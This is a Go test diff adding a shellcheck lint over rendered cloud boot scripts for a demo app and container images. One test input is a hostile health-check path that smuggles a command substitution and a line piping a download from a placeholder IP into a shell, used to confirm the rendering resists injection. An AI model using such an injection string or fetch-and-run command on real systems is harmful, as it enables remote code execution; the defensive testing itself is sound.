@@ -202,3 +202,36 @@ func TestContainerLogin(t *testing.T) {
 		})
 	}
 }
+
+// TestUserDataShellcheck: shellcheck finds nothing in the rendered boot
+// scripts (demo app, public image, ECR image), hostile values included.
+func TestUserDataShellcheck(t *testing.T) {
+	sc, err := exec.LookPath("shellcheck")
+	if err != nil {
+		t.Skip("shellcheck not installed (scripts/lint.sh installs it)")
+	}
+	var scripts []string
+	for _, render := range []func() (string, error){
+		func() (string, error) { return UserData(8080, "/health") },
+		func() (string, error) {
+			return UserData(8080, "/h$(touch /tmp/x)\ncurl -s https://203.0.113.9/x | sh\nUNIT\n")
+		},
+		func() (string, error) { return ContainerUserData("nginx:stable", 80, 8080) },
+		func() (string, error) {
+			return ContainerUserData("123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", 80, 8080)
+		},
+	} {
+		ud, err := render()
+		if err != nil {
+			t.Fatal(err)
+		}
+		path := filepath.Join(t.TempDir(), "user-data.sh")
+		if err := os.WriteFile(path, []byte(ud), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		scripts = append(scripts, path)
+	}
+	if out, err := exec.Command(sc, scripts...).CombinedOutput(); err != nil {
+		t.Errorf("shellcheck: %v\n%s", err, out)
+	}
+}
